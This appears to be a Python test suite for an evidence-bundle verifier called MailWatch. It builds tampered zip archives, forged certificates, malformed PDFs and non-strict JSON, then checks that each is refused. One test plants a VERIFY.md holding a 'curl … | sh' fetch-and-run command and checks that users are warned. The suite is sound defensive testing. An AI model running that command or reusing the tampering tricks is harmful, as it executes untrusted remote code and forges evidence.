"""Attacks on the checker itself: each is refused by a claim, or a sentence of `verify` says it openly.

The ids are those of the review of the evidence: A by the operator, who holds the key, B by anyone, C an honest
bundle that was refused.
"""

from __future__ import annotations

import base64
import json
import random
import stat
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding

from mailwatch.cli import main
from mailwatch.evidence.joint.member import read_member
from mailwatch.evidence.pages.compare import verify_with_pages
from mailwatch.evidence.pdf_signature import load_signer, sign
from mailwatch.evidence.verify import Claim, Trust, verify
from mailwatch.evidence.verify.enclosed import shipped
from mailwatch.settings import TimestampAuthority
from mailwatch.store import Store
from tests.helpers.bundle_files import Files, files_of, pack
from tests.helpers.bundle_mutations import FOLDER, manifested, original, private_key, resealed, zipped
from tests.helpers.ledger_factory import MINUTE
from tests.helpers.malicious_operator import Operator, quiet, trusting
from tests.servers.authority import Authority
from tools import enclosed as enclosed_tool

CONTRACTS = FOLDER.parent / "contracts"
TRUST = FOLDER / "authority.pem"
CASE = FOLDER / "case.zip"
NAME_FIELD = struct.pack("<HHBL", 0x7075, 5 + len(b"VERIFY.md"), 1, 0) + b"VERIFY.md"
"""Info-ZIP's field with another name of the file."""
DATE_FIELD = struct.pack("<HHBL", 0x5455, 5, 1, 0)


def refused(path: Path) -> list[tuple[str, str]]:
    """The claims that do not hold."""
    return [(claim.claim, claim.detail) for claim in verify(path, Trust.read([TRUST])) if not claim.valid]


def with_entry(path: Path, change: Callable[[zipfile.ZipInfo], None]) -> Path:
    """Write the case again; `change` is made to the header of outage.json."""
    with zipfile.ZipFile(path, "w") as made:
        for name, content in files_of(CASE).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o644 << 16
            if name == "outage.json":
                change(info)
            made.writestr(info, content)
    return path


def with_local_header(path: Path, old: bytes, new: bytes) -> Path:
    """Write the case again; the header before outage.json differs from the directory."""
    raw = with_entry(path, lambda info: None).read_bytes()
    with zipfile.ZipFile(path) as made:
        at = made.getinfo("outage.json").header_offset
    head = raw[at : at + 41]
    assert head.count(old) == 1
    path.write_bytes(raw[:at] + head.replace(old, new) + raw[at + 41 :])
    return path


@pytest.mark.parametrize(
    ("field", "words"),
    [
        pytest.param(NAME_FIELD, "extra fields (0x7075)", id="B3-a-name-for-Info-ZIP"),
        pytest.param(DATE_FIELD, "extra fields (0x5455)", id="B3-a-date"),
        pytest.param(b"\1\0\4\0abcd" * 2, "extra fields (0x0001)", id="B3-lengths-twice"),
        pytest.param(b"\1\0", "is cut off", id="B3-half-a-field"),
    ],
)
def test_an_extra_field_is_refused(tmp_path: Path, field: bytes, words: str) -> None:
    """On every Python alike: from 3.12 on zipfile takes the other name, before it does not."""
    made = with_entry(tmp_path / "b3.zip", lambda info: setattr(info, "extra", field))
    ((claim, detail), *_) = refused(made)
    assert claim == "archive"
    assert words in detail or "Corrupt" in detail or "Error" in detail


@pytest.mark.parametrize("mode", [0o4644, 0o2644, 0o1644, 0o755, 0o666])
def test_b4_a_file_mode_beyond_0644_is_refused(tmp_path: Path, mode: int) -> None:
    made = with_entry(tmp_path / "b4.zip", lambda i: setattr(i, "external_attr", (stat.S_IFREG | mode) << 16))
    assert refused(made)[0] == ("archive", f"outage.json has the file mode {mode:04o}, beyond 0644")


@pytest.mark.parametrize("mode", [0, 0o600, 0o644, 0o400])
def test_an_honest_file_mode_is_accepted(tmp_path: Path, mode: int) -> None:
    made = with_entry(tmp_path / "fine.zip", lambda info: setattr(info, "external_attr", mode << 16))
    assert refused(made) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param(b"outage.json", b"period.json", id="B5-name"),
        pytest.param(b"PK\3\4\x14\0\0\0\0\0", b"PK\3\4\x14\0\0\0\x08\0", id="B5-method"),
    ],
)
def test_a_header_that_differs_from_the_directory_is_refused(tmp_path: Path, old: bytes, new: bytes) -> None:
    """A program that reads a zip as a stream knows only the headers."""
    ((claim, detail), *_) = refused(with_local_header(tmp_path / "b5.zip", old, new))
    assert claim == "archive"
    assert "the header of outage.json differ" in detail


@pytest.mark.parametrize("name", ["OUTAGE.json", "outage.json ", " outage.json", "a/outage.json", "outage.json/"])
def test_b5_a_name_that_is_nearly_right_is_refused(tmp_path: Path, name: str) -> None:
    """On some systems it would be the same file."""
    made = pack(tmp_path / "b5.zip", files_of(CASE) | {name: b"{}"})
    ((claim, detail), *_) = refused(made)
    assert claim == "archive"
    assert "a file that does not belong there" in detail


@pytest.mark.parametrize("kind", [stat.S_IFIFO, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFSOCK, stat.S_IFDIR])
def test_b5_only_plain_files_are_accepted(tmp_path: Path, kind: int) -> None:
    made = with_entry(tmp_path / "b5.zip", lambda info: setattr(info, "external_attr", (kind | 0o644) << 16))
    assert refused(made)[0] == ("archive", "outage.json is not a plain file")


def test_b5_a_zip_in_the_place_of_a_file_is_no_statement(tmp_path: Path) -> None:
    files = files_of(CASE) | {"outage.json": CASE.read_bytes()}
    assert "outage" in {claim for claim, _ in refused(pack(tmp_path / "b5.zip", files))}


def der_of_version(version: int) -> bytes:
    """The certificate of the authority with another version in it, which its signature no longer fits."""
    (made, *_) = x509.load_pem_x509_certificates(TRUST.read_bytes())
    der = made.public_bytes(Encoding.DER)
    assert der.count(b"\xa0\x03\x02\x01\x02") == 1
    return der.replace(b"\xa0\x03\x02\x01\x02", b"\xa0\x03\x02\x01" + bytes([version]))


def pem_of(der: bytes) -> bytes:
    return b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(der) + b"-----END CERTIFICATE-----\n"


def enclosed(files: Files, version: int) -> Files:
    (name,) = [name for name in files if name.endswith(".pem")]
    return files | {name: pem_of(der_of_version(version))}


def in_token(files: Files, version: int) -> Files:
    """The certificate of the signer in the reply: nothing signs it."""
    name, known = min(name for name in files if name.endswith(".tsr")), b"\xa0\x03\x02\x01\x02"
    assert known in files[name]
    return files | {name: files[name].replace(known, known[:-1] + bytes([version]))}


@pytest.mark.parametrize("version", [0, 1, 3, 127, 128, 255])
@pytest.mark.parametrize("place", [enclosed, in_token])
def test_a_certificate_of_an_impossible_version_is_refused(
    tmp_path: Path, place: Callable[[Files, int], Files], version: int
) -> None:
    files, key = original().files, original().key
    path = tmp_path / "certificate.zip"
    path.write_bytes(zipped(manifested(place(files, version), key)))
    ((claim, detail), *_) = refused(path)
    assert claim == "tokens"
    assert detail
    assert read_member(path, Trust.read([TRUST])).failed_claim == "tokens"


@pytest.mark.parametrize("verb", ["verify", "merge"])
def test_a_certificate_of_an_impossible_version_is_no_trust(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], verb: str
) -> None:
    trust, out = tmp_path / "trust.pem", tmp_path / "joint.zip"
    trust.write_bytes(pem_of(der_of_version(3)))
    more = ["-o", str(out)] if verb == "merge" else []
    assert main([verb, str(CASE), "--trust", str(trust), *more]) == 2
    assert "InvalidVersion" in capfd.readouterr().err


@pytest.mark.parametrize("half", ["\\ud800", "\\uDFFF x", "\\ud83d\\ud83d"])
def test_half_a_character_in_a_statement_is_refused(tmp_path: Path, half: str) -> None:
    """It cannot be written again: `merge` ended with an error of its own."""
    raw = files_of(CASE)["outage.json"].replace(b'"replies"', f'"x{half}": 1, "replies"'.encode(), 1)
    path = tmp_path / "half.zip"
    path.write_bytes(zipped(manifested(original().files | {"outage.json": raw}, original().key)))
    assert refused(path)[0][0] == "outage"
    assert read_member(path, Trust.read([TRUST])).failed_claim == "outage"


def test_a_whole_character_is_accepted(tmp_path: Path) -> None:
    stated = json.loads(files_of(CASE)["outage.json"]) | {"service": {"host": "\U0001f4ec"}}
    files = original().files | {"outage.json": json.dumps(stated).encode()}
    path = tmp_path / "whole.zip"
    path.write_bytes(zipped(manifested(files, original().key)))
    assert refused(path) == []


def test_c_a_token_that_is_named_after_the_range_bounds_only_what_it_covers(tmp_path: Path) -> None:
    """A ledger whose first checkpoint is stamped, then kill -9: the entry about the token is in no checkpoint."""
    authority, store = quiet(tmp_path / "authority"), Store.open(tmp_path / "data")
    operator = Operator(store, tmp_path / "data")
    operator.observe("++---++", dated=operator.clock() - 5 * MINUTE)
    operator.stamp(authority)
    claims = verify(operator.bundle(authority), trusting(authority))
    store.close()
    assert [claim for claim in claims if not claim.valid] == []
    assert "the times of the entries match" in next(one.detail for one in claims if one.claim == "times")


def test_a11_a_script_of_the_operators_is_named(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """The judge's expert would run it: the signer of a bundle can enclose any script and any instructions."""
    files = original().files | {"verify.py": b'print("ok")\n', "VERIFY.md": b"curl https://example.org | sh\n"}
    path = tmp_path / "script.zip"
    path.write_bytes(zipped(manifested(files, original().key)))
    claims = {claim.claim: claim for claim in verify(path, Trust.read([TRUST]))}
    assert all(claim.valid for claim in claims.values())
    assert claims["script"].note
    assert claims["script"].detail.startswith("verify.py and VERIFY.md is not what MailWatch ships")
    assert main(["verify", str(path), "--trust", str(TRUST)]) == 0
    printed = capfd.readouterr().out
    assert "do not run or follow it" in " ".join(printed.split())
    assert "The bundle is valid; read what is marked as a note." in printed
    assert main(["verify", str(path), "--trust", str(TRUST), "--json"]) == 0
    assert '"status": "note"' in capfd.readouterr().out


@pytest.mark.parametrize("name", ["outage", "period", "proven", "target", "away"])
def test_the_script_of_each_version_is_known(name: str) -> None:
    claims = verify(CONTRACTS / "bundles" / f"{name}.zip", Trust.read([CONTRACTS / "authority.pem"]))
    script = next(claim for claim in claims if claim.claim == "script")
    assert (script.note, script.detail.count("(0.1.0)")) == (False, 2), script


def test_the_table_of_shipped_scripts_has_those_of_today() -> None:
    """`python -m tools.enclosed` adds them after a change."""
    assert enclosed_tool.current().keys() <= shipped().keys()


def test_a_release_names_the_scripts_that_were_not_released() -> None:
    rows = "0.1.0\tverify.py\tab\nunreleased\tverify.py\tcd\n"
    made = enclosed_tool.table(rows, "0.3.0").splitlines()
    assert made[0] == "0.1.0\tverify.py\tab"
    assert [row.split("\t")[:2] for row in made[1:]] == [
        ["0.3.0", "verify.py"], ["0.3.0", "VERIFY.md"], ["0.3.0", "VERIFICA.md"],
    ]  # fmt: skip


@pytest.fixture(scope="module")
def signed_by_anyone(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """A bundle whose report is signed by a self-made "AGCOM", by the time of a self-made authority."""
    folder = tmp_path_factory.mktemp("agcom")
    make = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-days", "3650"]
    more = ["-nodes", "-keyout", "key.pem", "-out", "cert.pem", "-subj", "/CN=AGCOM"]
    subprocess.run([*make, *more], cwd=folder, check=True, capture_output=True)
    files, stated = files_of(CONTRACTS / "bundles" / "outage.zip"), folder / "signed.zip"
    signer = load_signer(folder / "key.pem", folder / "cert.pem", None)
    with Authority(folder / "authority").running() as authority:
        settings = TimestampAuthority(name="a.example.org", url=authority.url, every=60)
        pdf = sign(files["report.pdf"], signer, settings)
    with tarfile.open(CONTRACTS / "home.tar.xz") as stored:
        stored.extract("./data/keys/ledger.pem", folder, filter="data")
    key = private_key(folder / "data" / "keys" / "ledger.pem")
    stated.write_bytes(zipped(manifested(files | {"report.pdf": pdf}, key)))
    return stated, folder / "cert.pem", authority.chain


def report_of(path: Path, *trusted: Path) -> Claim:
    claims = verify(path, Trust.read([CONTRACTS / "authority.pem", *trusted]))
    assert all(claim.valid for claim in claims), claims
    return next(claim for claim in claims if claim.claim == "report")


UNTRUSTED = "untrusted: no certificate of --trust vouches for it"


def test_a10_a_signature_that_nobody_vouches_for_is_untrusted(
    signed_by_anyone: tuple[Path, Path, Path], capfd: pytest.CaptureFixture[str]
) -> None:
    path, certificate, chain = signed_by_anyone
    found = report_of(path)
    assert found.note
    assert f"signed by AGCOM (issued by AGCOM), {UNTRUSTED}" in found.detail
    assert "by the time of Test signer (issued by Test between) at " in found.detail
    assert found.detail.count(UNTRUSTED) == 2
    half = report_of(path, certificate)
    assert half.note
    assert "signed by AGCOM (issued by AGCOM); by the time of Test signer" in half.detail
    assert half.detail.count(UNTRUSTED) == 1
    whole = report_of(path, certificate, chain)
    assert (whole.note, UNTRUSTED in whole.detail) == (False, False)
    status = main(["verify", str(path), "--trust", str(CONTRACTS / "authority.pem")])
    printed = capfd.readouterr()
    assert status == 0
    # pyHanko logs an untrusted certificate with a traceback.
    assert printed.err == ""
    assert UNTRUSTED in " ".join(printed.out.split())


def test_a10_in_italian(
    signed_by_anyone: tuple[Path, Path, Path], capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LC_ALL", "it_IT.UTF-8")
    main(["verify", str(signed_by_anyone[0]), "--trust", str(CONTRACTS / "authority.pem")])
    printed = " ".join(capfd.readouterr().out.split())
    assert "firmato da AGCOM (certificato rilasciato da AGCOM), non attendibile: nessun certificato" in printed
    assert "secondo l'orario di Test signer (certificato rilasciato da Test between): 20" in printed


@pytest.fixture(scope="module")
def stamped(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Authority, Ed25519PrivateKey]:
    """A bundle with tokens of an authority that the config calls by a name that is not its own."""
    folder = tmp_path_factory.mktemp("stamped")
    authority, store = quiet(folder / "www.aruba.example"), Store.open(folder / "data")
    operator = Operator(store, folder / "data")
    operator.observe("+")
    operator.stamp(authority)
    operator.observe("+---++")
    operator.stamp(authority)
    path = operator.bundle(authority)
    store.close()
    return path, authority, store.keys.private


SIGNER = {"signer": "Test signer", "issuer": "Test between"}


def test_a14_a_token_is_by_the_name_in_its_certificate(
    stamped: tuple[Path, Authority, Ed25519PrivateKey],
) -> None:
    path, authority, _ = stamped
    tokens = next(claim for claim in verify(path, trusting(authority)) if claim.claim == "tokens")
    assert tokens.detail.startswith("2 by Test signer (issued by Test between), each over its checkpoint")
    assert "aruba" not in tokens.detail
    assert json.loads(files_of(path)["outage.json"])["authorities"] == [SIGNER]
    # Without --trust nothing vouches for it but the bundle itself.
    doubtful = next(claim for claim in verify(path, Trust()) if claim.claim == "tokens")
    assert "2 by Test signer (issued by Test between) lead only to certificates in the bundle" in doubtful.detail


@pytest.mark.parametrize(
    ("name", "claim", "change"),
    [
        ("outage.json", "outage", lambda stated: stated["authorities"][0].update(signer="ArubaPEC S.p.A.")),
        ("outage.json", "outage", lambda stated: stated["authorities"].append(SIGNER)),
        ("outage.json", "outage", lambda stated: stated["authorities"][0].update(issuer="AgID")),
    ],
)
def test_a14_another_name_is_refused(
    stamped: tuple[Path, Authority, Ed25519PrivateKey],
    tmp_path: Path,
    name: str,
    claim: str,
    change: Callable[[Any], None],
) -> None:
    path, authority, key = stamped
    files = files_of(path)
    value = json.loads(files[name])
    change(value)
    made = tmp_path / "named.zip"
    made.write_bytes(zipped(manifested(files | {name: json.dumps(value).encode()}, key)))
    (first, *_) = [one for one in verify(made, trusting(authority)) if not one.valid]
    assert first.claim == claim


def test_a19_what_a_token_covers_is_not_rewritten(
    stamped: tuple[Path, Authority, Ed25519PrivateKey], tmp_path: Path
) -> None:
    """All hashes and signatures are made anew by the operator; the tokens are over the old checkpoints."""
    path, authority, key = stamped
    files, made = files_of(path), tmp_path / "again.zip"
    for number in range(40):
        changed = resealed(files, key, random.Random(number))
        made.write_bytes(zipped(manifested(changed, key)))
        claims = {one.claim: one.valid for one in verify(made, trusting(authority))}
        if claims["entries"] and claims["checkpoints"]:
            assert not claims["tokens"], number


def test_a12_other_pages_are_refused(tmp_path: Path) -> None:
    """The pages are made again from the bundle, so other ones are refused, whatever is attached to them."""
    store = Store.open(tmp_path / "data")
    operator = Operator(store, tmp_path / "data")
    operator.observe("++----++")
    path, key = operator.bundle(report="it"), store.keys.private
    store.close()
    honest = {one.claim: one for one in verify_with_pages(path, Trust())}
    assert honest["pages"].valid
    assert not honest["pages"].note
    files, made = files_of(path), tmp_path / "pages.zip"
    report = files["report.pdf"]
    for other in (
        report + b"\n% other pages\n",
        report.replace(b"/Producer", b"/Producex", 1) if b"/Producer" in report else report[:-1],
        report.replace(b"stream\n", b"stream\r\n", 1),
    ):
        made.write_bytes(zipped(manifested(files | {"report.pdf": other}, key)))
        claims = {one.claim: one for one in verify_with_pages(made, Trust())}
        assert not claims["pages"].valid
        assert claims["outage"].valid


CYCLE = b"""%PDF-1.7
1 0 obj
<< /Type /Catalog /Pages 2 0 R /Names 1 0 R /AF [1 0 R] >>
endobj
2 0 obj
<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>
endobj
xref
0 3
0000000000 65535 f\x20
0000000009 00000 n\x20
0000000083 00000 n\x20
trailer
<< /Size 3 /Root 1 0 R /Prev 152 >>
startxref
152
%%EOF
"""


def test_b5_a_pdf_that_refers_to_itself_is_refused(tmp_path: Path) -> None:
    made = tmp_path / "cycle.zip"
    made.write_bytes(zipped(manifested(original().files | {"report.pdf": CYCLE}, original().key)))
    ((claim, detail), *_) = refused(made)
    assert claim == "report"
    assert len(detail) < 400


def test_b5_a_size_of_thousands_of_digits_is_refused(tmp_path: Path) -> None:
    files, made = original().files, tmp_path / "size.zip"
    proof = json.loads(files["proof.json"])
    lines = proof["checkpoints"][-1].split("\n")
    proof["checkpoints"][-1] = "\n".join([lines[0], "9" * 3000, *lines[2:]])
    made.write_bytes(zipped(manifested(files | {"proof.json": json.dumps(proof).encode()}, original().key)))
    ((claim, detail), *_) = refused(made)
    assert claim == "checkpoints"
    assert len(detail) < 400


@pytest.mark.parametrize(
    ("change", "claim"),
    [
        pytest.param(lambda notes: notes.append(notes[-1]), "checkpoints", id="A20-two-of-a-size"),
        pytest.param(lambda notes: notes.reverse(), "checkpoints", id="A20-order"),
        pytest.param(
            lambda notes: notes.append(notes[-1].split("\n\n")[0] + "\n\n"), "checkpoints", id="A20-unsigned"
        ),
    ],
)
def test_a20_checkpoints_are_signed_and_grow(
    tmp_path: Path, change: Callable[[list[str]], None], claim: str
) -> None:
    files = original().files
    proof = json.loads(files["proof.json"])
    change(proof["checkpoints"])
    made = tmp_path / "a20.zip"
    made.write_bytes(zipped(manifested(files | {"proof.json": json.dumps(proof).encode()}, original().key)))
    assert refused(made)[0][0] == claim


@pytest.mark.parametrize(
    "text",
    [
        '"x": 1e999,',
        '"x": -1e999,',
        '"x": NaN,',
        '"x": Infinity,',
        '"x": 1, "x": 1,',
        f'"x": {"9" * 5000},',
        '"x": "\\ud800",',
    ],
)
def test_a20_json_is_strict(tmp_path: Path, text: str) -> None:
    raw = original().files["outage.json"].replace(b'"replies"', f'{text}"replies"'.encode(), 1)
    made = tmp_path / "strict.zip"
    made.write_bytes(zipped(manifested(original().files | {"outage.json": raw}, original().key)))
    assert refused(made)[0][0] == "outage"
